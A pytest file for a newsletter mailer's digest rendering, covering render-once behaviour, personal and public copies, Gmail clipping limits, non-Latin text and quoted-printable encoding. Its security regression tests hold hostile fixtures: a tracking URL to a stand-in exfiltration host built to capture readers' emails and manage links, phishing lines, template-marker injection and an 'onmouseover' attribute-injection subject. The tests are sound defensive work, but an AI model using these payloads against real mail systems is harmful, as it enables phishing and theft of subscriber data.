"""The rendered digest: render-once, what the copies contain, size, scripts, headers."""

from __future__ import annotations

import re
from email import message_from_bytes, policy
from email.header import decode_header, make_header

import pytest

import mailer.mail.rendering
from mailer import runtime
from mailer.digest import lifecycle
from mailer.digest.cache import prepared_editions
from mailer.digest.compose import archive_copy, compose, copy_for, prepare_edition
from mailer.digest.editions import build_edition
from mailer.mail.message import qp_fragment
from subscribers.service import recipients
from subscribers.tokens import Tokens
from tests.factories import PERIOD, World, standard_world

NON_LATIN = {
    "urdu": "نسلی مساوات کے لیے مقامی سرجریوں کا عہد",
    "arabic": "ورشة عمل حول الصحة النفسية للمجتمعات",
    "bengali": "হৃদরোগ স্ক্রিনিং: এশীয় রোগীদের জন্য নতুন ক্লিনিক",
    "punjabi": "ਦਿਲ ਦੀ ਸਿਹਤ ਬਾਰੇ ਭਾਈਚਾਰਕ ਸ਼ਾਮ",
}


class Counter:
    """Wraps a real library entry point and counts calls (a spy, not a stub)."""

    def __init__(self, real):
        self.real, self.calls = real, 0

    def __call__(self, *a, **kw):
        self.calls += 1
        return self.real(*a, **kw)


def test_mjml_and_inliner_run_once_per_edition_not_per_recipient(session, rt, queue, monkeypatch):
    from mailer.actors.digest import start_edition

    w = standard_world(session)
    topics, partners = list(w.topics), list(w.partners)
    n = 0
    for mask in range(1, 64):  # every non-empty combination of 3 topics and 3 partners
        ts = [t for i, t in enumerate(topics) if mask >> i & 1]
        ps = [p for i, p in enumerate(partners) if mask >> (i + 3) & 1]
        w.subscriber(f"reader{mask}@x.org", topics=ts, partners=ps, name=f"Reader {mask}")
        n += 1
    session.commit()
    edition = build_edition(session, PERIOD)
    session.commit()
    mjml_to_html, premailer = mailer.mail.rendering.render_engines()
    mjml, inliner = Counter(mjml_to_html), Counter(premailer)
    monkeypatch.setattr(mailer.mail.rendering, "render_engines", lambda: (mjml, inliner))
    prepared_editions.clear()

    runtime.current().queue.send(start_edition, edition.id)
    queue()

    assert len(rt.transport.messages) == n == 63
    assert len({m.recipient for m in rt.transport.messages}) == 63
    # One digest render for 63 recipients and their 63 different combinations of choices.
    assert (mjml.calls, inliner.calls) == (1, 1)


@pytest.fixture
def edition_world(session):
    w = standard_world(session)
    w.subscriber("amina@x.org", topics=["sexual-health"], partners=["bhf"], name="Amina Rahman")
    session.commit()
    return w


def _prepared(session, rt, **edit):
    edition = build_edition(session, PERIOD)
    if edit:
        lifecycle.edit(session, edition, **edit)
    session.commit()
    return prepare_edition(session, edition, rt.settings)


def test_copy_holds_personal_parts_and_the_archive_copy_none(edition_world, session, rt):
    prepared = _prepared(session, rt, intro="A note from the editor.", preheader="Six things this month")
    amina = recipients(session)[0]
    html, text = copy_for(prepared, amina)
    for body in (html, text):
        assert "Amina Rahman" in body and "amina@x.org" in body
        assert "/manage/" in body and "/u/" in body and f"/view/{PERIOD}/" in body
        assert "A note from the editor." in body
        assert "Sexual health and British Heart Foundation" in body
        assert "c/o Campaign Office" in body  # the sender's postal address
    assert "Six things this month" in html  # preheader
    tokens = Tokens(rt.settings.secret_key)
    view = re.search(rf"/view/{PERIOD}/([\w.-]+)", text).group(1)
    assert tokens.read("view", view).subscriber_id == amina.id

    public_html, public_text = archive_copy(prepared)
    for body in (public_html, public_text):
        assert "Amina" not in body and "amina@x.org" not in body
        assert "/manage/" not in body and "/u/" not in body and "/view/" not in body
        assert "__PH_" not in body
        assert "PrEP clinic evenings" in body and "BME staff networks meet" in body
        assert "/subscribe" in body
    assert "Hello," in public_text


def test_layout_quality_markers(edition_world, session, rt):
    html, _ = copy_for(_prepared(session, rt), recipients(session)[0])
    assert re.search(r'<html[^>]* lang="en"', html)
    tables = re.findall(r"<table\b[^>]*>", html)
    assert tables and all('role="presentation"' in t for t in tables)
    for img in re.findall(r"<img\b[^>]*>", html):
        assert re.search(r'\balt="[^"]+"', img) and re.search(r'\bwidth="\d+"', img), img
    assert 'name="viewport"' in html and "prefers-color-scheme: dark" in html
    assert "@media only screen and (min-width:480px)" in html  # MJML's column stacking


def _big_world(session, items=60) -> World:
    w = World(session)
    for i in range(8):
        w.topic(f"t{i}", f"Topic number {i} with a longer name", i)
    for i in range(6):
        w.partner(f"p{i}", f"Partner charity number {i}")
    words = "community health equality surgery network screening partner pledge".split()
    for i in range(items):
        w.item(
            f"item{i}",
            f"p{i % 6}",
            [f"t{i % 8}", f"t{(i * 3 + 1) % 8}"],
            kind="event" if i % 7 == 0 else "news",
            day=1 + i % 28,
            title=" ".join(words[(i + j) % 8] for j in range(12)).capitalize()[:100],
            summary=(" ".join(words[(i * j) % 8] for j in range(60)))[:400] + ".",
        )
    w.subscriber(
        "everything@x.org",
        topics=[f"t{i}" for i in range(8)],
        partners=[f"p{i}" for i in range(6)],
        name="Somebody With A Long Name",
    )
    session.commit()
    return w


def test_sixty_item_edition_stays_under_gmail_clipping_size(session, rt):
    _big_world(session)
    prepared = _prepared(session, rt)
    html, _ = copy_for(prepared, recipients(session)[0])
    assert len(prepared.plan.items) == 60 and html.count("<h3") == 60
    assert len(html.encode("utf-8")) < 102 * 1024
    assert len(archive_copy(prepared)[0].encode("utf-8")) < 102 * 1024


def test_non_latin_scripts_survive_and_run_in_their_direction(session, rt):
    w = World(session)
    w.topic("t", "صحت", 0)
    w.partner("p", "Afiya Trust")
    for key, title in NON_LATIN.items():
        w.item(key, "p", ["t"], title=title, summary=title + " — " + title)
    w.subscriber("x@x.org", topics=["t"], name="عائشہ خان")
    session.commit()
    prepared = _prepared(session, rt, subject="ڈائجسٹ دسمبر 2026 — نسلی مساوات")
    envelope = compose(prepared, recipients(session)[0])
    msg = message_from_bytes(envelope.data, policy=policy.default)
    html = msg.get_body(("html",)).get_content()
    text = msg.get_body(("plain",)).get_content()
    for title in NON_LATIN.values():
        assert title in html and title in text
        assert re.search(r'<h3 dir="auto"[^>]*><a [^>]*>' + re.escape(title), html)
    assert "Hello عائشہ خان," in text
    # The subject is RFC 2047 encoded: ASCII on the wire, folded, and decodes exactly.
    raw = envelope.data.split(b"\r\n\r\n", 1)[0]
    subject_lines = re.search(rb"^Subject:.*?(?=\r\n\S)", raw, re.M | re.S).group(0).split(b"\r\n")
    assert all(line.isascii() and len(line) <= 78 for line in subject_lines)
    assert b"=?utf-8?" in subject_lines[0]
    assert (
        str(make_header(decode_header(b" ".join(s.strip() for s in subject_lines)[9:].decode())))
        == "ڈائجسٹ دسمبر 2026 — نسلی مساوات"
    )
    assert msg["Subject"] == "ڈائجسٹ دسمبر 2026 — نسلی مساوات"


@pytest.mark.parametrize(
    "text",
    [
        "",
        "plain",
        "x" * 75,
        "x" * 76,
        "a=b " * 40,
        "ç" * 60,
        "ends with space ",
        "line\nbreaks\n",
        "https://d.example.org/u/" + "A" * 100,
        ".",
        "x" * 75 + ".example.org",
        "line\n.dotted line\n",
        "." * 160,
    ],
)
def test_qp_fragments_join_into_valid_quoted_printable(text):
    import binascii

    joined = qp_fragment("Start ") + qp_fragment(text) + qp_fragment(" end")
    assert all(len(line) <= 76 for line in joined.split(b"\r\n"))
    assert not [line for line in joined.split(b"\r\n") if line.startswith(b".")]  # see test_message
    assert binascii.a2b_qp(joined.replace(b"\r\n", b"\n")).decode() == "Start " + text + " end"


def test_featured_image_fits_its_box_and_no_image_gets_height_auto(session, rt):
    """Issue 9 finding 18: the featured image was 552 px wide in a 524 px box (552 less the
    box's 12 px padding each side and 4 px border), and the inliner wrote height="auto"."""
    w = standard_world(session)
    w.subscriber("amina@x.org", topics=["sexual-health", "heart-health", "mental-health"])
    for key, it in list(w.items.items())[:2]:
        it.image_url, it.image_alt = f"https://example.org/{key}.png", f"Picture of {key}"
    session.commit()
    featured_id = next(iter(w.items.values())).id
    html, _ = copy_for(_prepared(session, rt, featured_item_id=featured_id), recipients(session)[0])
    imgs = re.findall(r"<img\b[^>]*>", html)
    feat = re.search(r'class="feat"[^>]*>\s*(<img\b[^>]*>)', html).group(1)
    assert re.search(r'\bwidth="524"', feat)
    assert any(re.search(r'\bwidth="552"', i) for i in imgs if i != feat)  # items outside the box
    assert not re.search(r'\s(?:height|width)="(?!\d+%?")[^"]*"', html)  # only numbers as attributes


# --- Partner text is data: it never fills in, or cuts, a reader's copy (issue 9) -------

EXFIL = "https://exfil.example/p.gif?e=__PH_EMAIL__&m=__PH_MANAGE_URL__&u=__PH_UNSUBSCRIBE_URL__"
HOSTILE_TITLE = "Win a prize __PH_EMAIL__ __PH_VIEW_URL__ __PH_NOPE__ <!--BLOCK:personal-->"
HOSTILE_SUMMARY = (
    "Reply to __PH_EMAIL__ at __PH_MANAGE_URL__ <!--BLOCK:zzz--> __PH_GREETING__ "
    "<!--BLOCK:always-->PHISH: your account is locked, log in at https://evil.example"
)


def _hostile_world(session) -> World:
    """The standard world plus one approved Naz item (sexual health) full of our syntax,
    and three readers: two who get it, one (mental health only) who does not."""
    w = standard_world(session)
    bad = w.item("hostile", "naz", ["sexual-health"], day=12, title=HOSTILE_TITLE, summary=HOSTILE_SUMMARY)
    bad.link = "https://exfil.example/c?e=__PH_EMAIL__&m=__PH_MANAGE_URL__"
    bad.image_url, bad.image_alt = EXFIL, "<!--BLOCK:public--> __PH_EMAIL__"
    w.subscriber("amina@x.org", topics=["sexual-health"], name="Amina Rahman")
    w.subscriber("kwame@x.org", partners=["naz"], name="Kwame")
    w.subscriber("david@x.org", topics=["mental-health"], name="David Okafor")
    session.commit()
    return w


def _send_all(session, queue):
    from mailer.actors.digest import start_edition

    edition = build_edition(session, PERIOD)
    session.commit()
    prepared_editions.clear()
    runtime.current().queue.send(start_edition, edition.id)
    queue()
    return edition


def _parts(data: bytes) -> tuple[str, str]:
    msg = message_from_bytes(data, policy=policy.default)
    return msg.get_body(("html",)).get_content(), msg.get_body(("plain",)).get_content()


def test_partner_text_never_receives_a_readers_address_or_links(session, rt, queue):
    """Issue 9.1: an approved item whose title, summary, link and image URL hold our
    placeholders. Each reader's address and personal links appear only where the template
    puts them; the partner's URLs reach readers exactly as the partner wrote them."""
    _hostile_world(session)
    _send_all(session, queue)
    got = {m.recipient: m.data for m in rt.transport.messages}
    assert set(got) == {"amina@x.org", "kwame@x.org", "david@x.org"}
    for address, data in got.items():
        html, text = _parts(data)
        manage = re.search(r"Manage your preferences: (\S+)", text).group(1)
        unsubscribe = re.search(r"Unsubscribe: (\S+)", text).group(1)
        view = re.search(r"View in your browser: (\S+)", text).group(1)
        # Once in each part: "It was sent to ..." (and the To header, outside the bodies).
        assert html.count(address) == 1 and text.count(address) == 1
        assert html.count(manage) == 1 and text.count(manage) == 1  # the footer link
        assert html.count(unsubscribe) == 1 and text.count(unsubscribe) == 1
        assert "exfil.example" not in text.replace("https://exfil.example/c?e=__PH_EMAIL__&m=__PH_MANAGE_URL__", "")
        if address == "david@x.org":
            assert "exfil" not in html and "exfil" not in text and "PHISH" not in text + html
            continue
        # The partner's text arrives verbatim, placeholders and all.
        assert 'src="https://exfil.example/p.gif?e=__PH_EMAIL__&amp;m=__PH_MANAGE_URL__' in html
        assert 'href="https://exfil.example/c?e=__PH_EMAIL__&amp;m=__PH_MANAGE_URL__"' in html
        assert "Win a prize __PH_EMAIL__ __PH_VIEW_URL__ __PH_NOPE__ &lt;!--BLOCK:personal--&gt;" in html
        assert "Win a prize __PH_EMAIL__ __PH_VIEW_URL__ __PH_NOPE__ <!--" in text  # wrapped after
        assert "Read more: https://exfil.example/c?e=__PH_EMAIL__&m=__PH_MANAGE_URL__" in text
        # The reader's tokens appear in our own links only: once each per part, the view
        # link also in each contents entry of the HTML.
        contents = html.count(f'"{view}#section-')
        assert contents == 2  # Sexual health, Events and dates
        for url, in_html in ((manage, 1), (unsubscribe, 1), (view, 1 + contents)):
            token = url.rsplit("/", 1)[1]
            assert url.startswith(rt.settings.base_url + "/")
            assert text.count(token) == 1 and html.count(token) == in_html


def test_block_markers_in_partner_text_cut_nothing_in_either_part(session, rt, queue):
    """Issue 9.3: ``<!--BLOCK:always-->`` in a summary put a phishing line into the text
    copy of readers who never chose the topic. Now it is the partner's literal text, shown
    only with that item, in the HTML and the plain-text part alike."""
    _hostile_world(session)
    _send_all(session, queue)
    got = {m.recipient: _parts(m.data) for m in rt.transport.messages}
    david_html, david_text = got["david@x.org"]
    assert "PHISH" not in david_html and "PHISH" not in david_text
    assert "BLOCK" not in david_html and "BLOCK" not in david_text
    assert "BME staff networks meet" in david_text and "Wellbeing workshop" in david_text
    for address in ("amina@x.org", "kwame@x.org"):
        html, text = got[address]
        # The line stays inside the item, between its title and its "Read more".
        item = text[text.index("Win a prize") :]
        item = item[: item.index("Read more:")]
        assert "<!--BLOCK:zzz--> __PH_GREETING__ <!--BLOCK:always-->PHISH" in " ".join(item.split())
        assert text.count("PHISH") == 1 and html.count("PHISH") == 1
        assert "&lt;!--BLOCK:always--&gt;PHISH" in html
        # The personal blocks are where they belong, once: no public footer leaked in.
        assert text.count("It was sent to") == 1 and "public copy" not in text + html


def test_a_doubly_escaped_marker_from_a_feed_stays_text(session, rt, queue):
    """Issue 9.3: ``&lt;!--BLOCK:always--&gt;`` in a feed entry's HTML becomes the marker
    once the feed's text is unescaped; it must still cut nothing, in either part."""
    from datetime import date

    from mailer.content.feeds import ingest_entries, parse_feed
    from mailer.content.models import Item

    w = standard_world(session)
    feed = b"""<?xml version="1.0"?><rss version="2.0"><channel><title>Naz</title>
<item><title>Community evening</title><link>https://naz.example.org/evening</link>
<guid>evening-1</guid><category>sexual-health</category>
<description>Join us. &amp;lt;!--BLOCK:always--&amp;gt;Your mailbox is full, verify at https://evil.example &amp;lt;!--BLOCK:item:0--&amp;gt;</description>
</item></channel></rss>"""
    result = ingest_entries(
        session, w.partners["naz"], parse_feed(feed, "application/rss+xml"), today=date(2026, 12, 2)
    )
    (item_id,) = result.new_item_ids
    item = session.get(Item, item_id)
    assert "<!--BLOCK:always-->Your mailbox is full" in item.summary  # unescaped by intake
    item.status, item.dated = "approved", date(2026, 12, 2)
    w.subscriber("amina@x.org", topics=["sexual-health"])
    w.subscriber("david@x.org", topics=["mental-health"])
    session.commit()
    _send_all(session, queue)
    got = {m.recipient: _parts(m.data) for m in rt.transport.messages}
    for part in got["david@x.org"]:
        assert "mailbox is full" not in part and "Community evening" not in part
    html, text = got["amina@x.org"]
    assert "<!--BLOCK:always-->Your mailbox is full" in " ".join(text.split())
    assert "&lt;!--BLOCK:always--&gt;Your mailbox is full" in html
    assert text.count("mailbox is full") == 1 and html.count("mailbox is full") == 1


def test_a_subject_with_quotes_stays_inside_its_attributes(edition_world, session, rt):
    """Issue 9.12: MJML copies the title into ``aria-label`` after decoding ``&#34;``."""
    from html.parser import HTMLParser

    subject = 'Digest" onmouseover="alert(1)" x=\'y\' & <b>'
    prepared = _prepared(session, rt, subject=subject)
    html = (
        message_from_bytes(compose(prepared, recipients(session)[0]).data, policy=policy.default)
        .get_body(("html",))
        .get_content()
    )
    found = {}

    class Attrs(HTMLParser):
        def handle_starttag(self, tag, attrs):
            if dict(attrs).get("role") == "article":
                found["article"] = dict(attrs)

        def handle_data(self, data):
            if self.lasttag == "title" and data.strip():
                found["title"] = data.strip()

    Attrs(convert_charrefs=True).feed(html)
    assert found["article"]["aria-label"] == subject
    assert set(found["article"]) == {
        "aria-roledescription",
        "class",
        "style",
        "role",
        "lang",
        "dir",
        "aria-label",
    }  # nothing injected
    assert found["title"] == subject


def test_preheader_counts_the_readers_items_and_contents_link_to_the_web_copy(session, rt):
    """Issue 9.16: "1 item" for a reader with one item (not the edition's six); contents
    links go to the reader's web copy, each to its section (clients ignore #anchors)."""
    w = standard_world(session)
    w.subscriber("letter@x.org", topics=["heart-health"])
    w.items["screen"].topics = [w.topics["sexual-health"]]  # heart health: the letter alone
    session.commit()
    prepared = _prepared(session, rt)
    (reader,) = [r for r in recipients(session) if r.email == "letter@x.org"]
    html, text = _parts(compose(prepared, reader).data)
    assert "This month from the campaign's partners: 1 item" in html
    assert "6 items" not in html
    view = re.search(r"View in your browser: (\S+)", text).group(1)
    contents = re.findall(r'\u2022 <a href="([^"]+)"', html)
    assert contents == [f"{view}#section-1"]  # heart health, the only section they get
    assert re.search(r'<h2 id="section-1"', html)
    public_html, _ = archive_copy(prepared)
    assert "This month from the campaign's partners: 6 items" in public_html
    assert re.findall(r'\u2022 <a href="([^"]+)"', public_html)[:2] == ["#section-0", "#section-1"]


def _crowded_world(session, items: int, topics: int = 3, summary_words: int = 60) -> World:
    w = World(session)
    for i in range(topics):
        w.topic(f"t{i}", f"Topic {i}", i)
    w.partner("p", "Partner charity")
    words = "community health equality surgery network screening partner pledge".split()
    for i in range(items):
        w.item(
            f"i{i}",
            "p",
            [f"t{i % topics}"],
            day=1 + i % 28,
            title=f"Item {i}: " + " ".join(words[(i + j) % 8] for j in range(10)),
            summary=" ".join(words[(i * j) % 8] for j in range(summary_words))[:600] + ".",
        )
    w.subscriber("everything@x.org", topics=[f"t{i}" for i in range(topics)], partners=["p"], name="Somebody")
    session.commit()
    return w


def test_a_big_edition_is_capped_per_section_so_gmail_never_clips_the_footer(session, rt, queue):
    """Issue 9.17: 90 items once lost the footer (unsubscribe link, postal address) past
    Gmail's 102 KB. Each section now shows SECTION_CAP items, then "And N more online"
    linking to that section of the reader's web copy, which has everything."""
    from mailer.digest.clip import GMAIL_CLIP_BYTES, SECTION_CAP

    _crowded_world(session, 90)
    edition = _send_all(session, queue)
    (message,) = rt.transport.messages
    html, text = _parts(message.data)
    assert len(html.encode("utf-8")) < GMAIL_CLIP_BYTES
    assert html.count("<h3") == 3 * SECTION_CAP and text.count("Read more:") == 3 * SECTION_CAP
    view = re.search(r"View in your browser: (\S+)", text).group(1)
    for n in range(3):
        assert re.search(rf'<a href="{re.escape(view)}#section-{n}"[^>]*>And {30 - SECTION_CAP} more online</a>', html)
        assert f"And {30 - SECTION_CAP} more online: {view}#section-{n}" in text
    tail = html[html.rindex("Unsubscribe") :]
    assert "c/o Campaign Office" in html[html.rindex("It was sent to") :] and "</html>" in tail
    # The web copy behind those links holds all 90.
    web_html, _ = copy_for(prepare_edition(session, edition, rt.settings), recipients(session)[0])
    assert web_html.count("<h3") == 90 and "more online" not in web_html


def test_edition_build_warns_when_a_copy_could_still_be_clipped(session, rt, app):
    """Issue 9.17: with very many topics even capped sections can pass the limit; the
    editor hears it when building, and not otherwise."""
    from mailer.cli import main

    runner = app.test_cli_runner()
    standard_world(session)
    quiet = runner.invoke(main, ["edition", "build", "--period", PERIOD])
    assert quiet.exit_code == 0 and "Gmail" not in quiet.output
    _crowded_world(session, 200, topics=20, summary_words=120)
    loud = runner.invoke(main, ["edition", "build", "--period", "2026-12"])
    assert loud.exit_code == 0, loud.output
    assert "Gmail clips" in loud.output and "102 KB" in loud.output
